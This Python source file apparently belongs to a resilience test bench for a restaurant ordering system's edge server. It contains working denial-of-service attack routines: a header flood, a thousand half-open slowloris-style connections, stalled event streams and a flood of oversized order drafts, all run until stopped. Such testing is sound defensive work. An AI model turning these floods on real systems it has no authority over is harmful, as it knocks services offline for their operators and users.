"""Whoever means a venue harm: each of these held one up once. A program of its own, so that its work is not the edge's.

    python -m installer.bench.attackers NAME ADDRESS [CODE]

It goes on until it is told to stop, and prints `begun` once it has what it needs.
"""

import asyncio
import contextlib
import itertools
import json
import socket
import sys
from collections.abc import Callable, Coroutine
from typing import Any
from urllib.parse import urlsplit

import httpx

from installer.demo.edge_client import fresh_id, http_to

HALF_OPEN = 1_000
DEAD_STREAMS = 5
FLOODERS = 20
LINES = 20
WORDS = "Sin sal, por favor 🍝 " * 5  # a sign that makes each letter of a text four bytes wide
_PAUSE_S = 0.01


async def header_flood(address: str, code: str) -> None:
    """Headers without end, over one connection after the other."""
    piece = b"".join(b"x%05d: y\r\n" % number for number in range(20_000))
    _begun()
    while True:
        with contextlib.suppress(OSError):
            _, writer = await _connect(address)
            writer.write(b"GET /health HTTP/1.1\r\nhost: x\r\n")
            for _ in range(1_000):
                writer.write(piece)
                await writer.drain()
        await asyncio.sleep(_PAUSE_S)


async def half_open(address: str, code: str) -> None:
    """A thousand connections that say half of something; each that is ended is opened again."""
    halves = itertools.cycle(
        (b"", b"GET / HTTP/1.1\r\nhost: x\r\n", b"POST /commands HTTP/1.1\r\ncontent-length: 9\r\n\r\n{")
    )

    async def hold() -> None:
        while True:
            with contextlib.suppress(OSError):
                reader, writer = await _connect(address)
                writer.write(next(halves))
                await reader.read()
            await asyncio.sleep(1)

    held = [asyncio.ensure_future(hold()) for _ in range(HALF_OPEN)]
    await asyncio.sleep(2)
    _begun()
    await asyncio.gather(*held)


async def dead_streams(address: str, code: str) -> None:
    """Phones of one party whose streams read nothing, while others of it join and order as much as they may."""
    phones = [await _joined(address, code) for _ in range(DEAD_STREAMS)]
    held = [await _unread_stream(address, phone) for phone in phones]
    _begun()
    await _draft_without_end(address, code, [])
    del held


async def draft_flood(address: str, code: str) -> None:
    """Twenty phones at a table that are thrown away and made up anew, each drafting as fast as it is let."""
    _begun()
    await asyncio.gather(*(_draft_without_end(address, code, []) for _ in range(FLOODERS)))


async def nothing(address: str, code: str) -> None:
    """Calm, and what a printer does that is set up to misbehave."""
    _begun()
    await asyncio.Event().wait()


ATTACKS: dict[str, Callable[[str, str], Coroutine[Any, Any, None]]] = {
    one.__name__: one for one in (nothing, header_flood, half_open, dead_streams, draft_flood)
}


async def _draft_without_end(address: str, code: str, kept: list[httpx.AsyncClient]) -> None:
    while True:
        try:
            phone = await _joined(address, code)
        except httpx.HTTPError:
            await asyncio.sleep(_PAUSE_S)
            continue
        try:
            for _ in range(8):
                await phone.post("/guest-api/commands", content=_a_draft())
        except httpx.HTTPError:
            await asyncio.sleep(_PAUSE_S)
        finally:
            await phone.aclose()


def _a_draft() -> bytes:
    lines = [
        {"line_id": f"l{n}", "item_id": f"dish{n * 5 + 1}", "note": WORDS[:100], "quantity": 1} for n in range(LINES)
    ]
    body = {"draft_id": fresh_id(), "lines": lines, "note": WORDS[:100]}
    return json.dumps({"commands": [{"id": fresh_id(), "name": "submit_draft", "body": body}]}).encode()


async def _joined(address: str, code: str) -> httpx.AsyncClient:
    """A new phone at that table."""
    phone = http_to(address)
    try:
        (await phone.post("/guest-api/join", json={"code": code})).raise_for_status()
    except httpx.HTTPError:
        await phone.aclose()
        raise
    return phone


async def _unread_stream(address: str, phone: httpx.AsyncClient) -> socket.socket:
    at = urlsplit(address)
    made = socket.socket()
    made.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4_096)
    made.setblocking(False)
    await asyncio.get_running_loop().sock_connect(made, (at.hostname, at.port))
    cookie = "; ".join(f"{name}={value}" for name, value in phone.cookies.items())
    asked = f"GET /guest-api/events HTTP/1.1\r\nhost: x\r\ncookie: {cookie}\r\n\r\n"
    await asyncio.get_running_loop().sock_sendall(made, asked.encode())
    return made


async def _connect(address: str) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    at = urlsplit(address)
    return await asyncio.open_connection(at.hostname, at.port)


def _begun() -> None:
    sys.stdout.write("begun\n")
    sys.stdout.flush()


def main() -> int:
    """Attack until stopped."""
    name, address, code = sys.argv[1:4]
    with contextlib.suppress(KeyboardInterrupt):
        asyncio.run(ATTACKS[name](address, code))
    return 0


if __name__ == "__main__":
    sys.exit(main())
